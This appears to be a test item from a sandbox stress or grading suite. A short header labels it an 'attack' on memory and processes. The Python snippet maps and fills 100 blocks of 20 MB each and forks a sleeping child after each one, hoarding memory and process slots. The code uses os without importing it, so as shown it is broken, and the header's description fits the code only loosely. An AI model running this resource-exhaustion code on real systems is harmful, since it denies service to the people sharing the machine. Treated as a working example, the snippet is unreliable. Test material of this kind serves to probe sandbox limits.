# ---
# attack: Memory that several processes share is mapped by one after the other.
# lost_from: stem
# reason: memory|processes
# ---

# %% grade_id="stem"
import mmap
import time

hoard = []
for _ in range(100):
    part = mmap.mmap(-1, 20 << 20)
    part.write(b"x" * (20 << 20))
    hoard.append(part)
    if os.fork() == 0:
        time.sleep(1000)
        os._exit(0)
time.sleep(1000)
